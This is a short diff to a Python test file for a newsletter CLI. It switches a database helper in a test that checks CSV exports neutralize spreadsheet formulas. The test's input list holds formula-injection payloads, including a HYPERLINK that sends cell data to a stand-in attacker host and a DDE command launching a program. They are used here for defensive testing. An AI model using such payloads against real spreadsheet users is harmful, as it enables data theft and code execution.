@@ -17,7 +17,7 @@ from fakes.server import Fault
 from newsletter.cli import app
 from newsletter.secrets import MASK, Redactor
 from newsletter.store import subscribers
-from newsletter.store.db import open_db
+from newsletter.store.db import open_db, open_store
 
 ISSUE = "issues/2026-11-mdma-assisted-therapy.md"
 TOKEN = "pm-token-3f9c2a7e-echoed-by-the-proxy"
@@ -216,7 +216,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'
 
 
 def test_an_export_neutralizes_formulas_and_imports_back_as_it_was(project: Path, settings) -> None:
-    conn = open_db(settings.database)
+    conn = open_store(settings)
     for i, name in enumerate(FORMULAS):
         subscribers.add(conn, f"f{i}@example.com", source="test", first_name=name, last_name=name)
     conn.close()
